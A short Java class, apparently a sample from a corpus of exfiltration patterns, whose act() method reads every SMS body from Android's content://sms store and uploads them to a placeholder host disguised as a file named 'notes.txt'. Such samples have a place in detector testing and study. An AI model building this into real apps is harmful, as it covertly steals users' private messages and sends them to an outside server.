package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** Texts as an uploaded file. */
public class HttpMultipart extends Screen {
    @Override
    protected void act() throws Exception {
        String edge = "----corpus7MA4YWxk";
        StringBuilder body = new StringBuilder("--" + edge + "\r\n");
        body.append("Content-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\n");
        body.append("Content-Type: text/plain\r\n\r\n");
        for (String text : Owner.rows(this, "content://sms", "body")) {
            body.append(text).append('\n');
        }
        body.append("\r\n--" + edge + "--\r\n");
        Net.post(
                "http://files.corpus.example/up",
                "multipart/form-data; boundary=" + edge,
                body.toString());
    }
}
